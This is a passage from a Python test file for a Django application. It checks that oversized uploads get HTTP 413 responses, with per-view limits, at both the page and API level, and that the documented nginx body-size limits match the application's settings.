    settings.MAX_REQUEST_BYTES = 12 * MB
    inspection_url = reverse("verification:inspection_detail", args=[7])
    repair_url = reverse("credit:my_record_repair", args=[7])
    assert _middleware_answer(inspection_url, 9 * 10 * MB)[0].status_code == 200
    assert _middleware_answer(inspection_url, 92 * MB + 1)[0].status_code == 413
    assert _middleware_answer(repair_url, 5 * 5 * MB)[0].status_code == 200
    assert _middleware_answer(repair_url, 27 * MB + 1)[0].status_code == 413
    assert _middleware_answer("/no/such/page/", 20 * MB)[0].status_code == 413


def test_an_oversized_upload_gets_413_through_the_whole_stack_and_nothing_runs(
    client, db, monkeypatch
):
    w = build_world()
    case = case_services.case_create(actor=w.applicant, matter=w.matter, subject=w.person)

    def must_not_run(**kwargs):
        raise AssertionError("the view ran")

    monkeypatch.setattr(case_services, "proof_upload", must_not_run)
    client.force_login(w.applicant)
    page_url = reverse("cases:upload_proof", args=[case.number, w.diploma.code])
    declared = str(django_settings.MAX_REQUEST_BYTES + 1)
    page = client.post(
        page_url, {"file": SimpleUploadedFile("a.pdf", b"x")}, CONTENT_LENGTH=declared
    )
    assert page.status_code == 413 and "提交的内容过大" in page.content.decode()
    api = client.post(
        f"/api/v1/cases/{case.number}/items/{w.diploma.code}/proofs",
        {"file": SimpleUploadedFile("a.pdf", b"x")},
        CONTENT_LENGTH=declared,
        headers={"Idempotency-Key": "k-413"},
    )
    assert api.status_code == 413 and api.json()["code"] == "request_too_large"
    assert not Proof.objects.exists()


def test_the_documented_proxy_limits_match_the_application():
    conf = (ROOT / "docs" / "deploy" / "nginx.conf").read_text(encoding="utf-8")
    sizes = {int(n) for n in re.findall(r"client_max_body_size\s+(\d+)m;", conf)}
    assert django_settings.MAX_REQUEST_BYTES // MB in sizes
    assert {v // MB for v in django_settings.MAX_REQUEST_BYTES_BY_VIEW.values()} <= sizes
    for name in django_settings.MAX_REQUEST_BYTES_BY_VIEW:
        url = reverse(name, args=[1]).replace("1", "[0-9]+")
        assert url in conf
    doc = (ROOT / "docs" / "configuration.md").read_text(encoding="utf-8")
    assert "`CHENGNUO_MAX_REQUEST_BYTES`" in doc
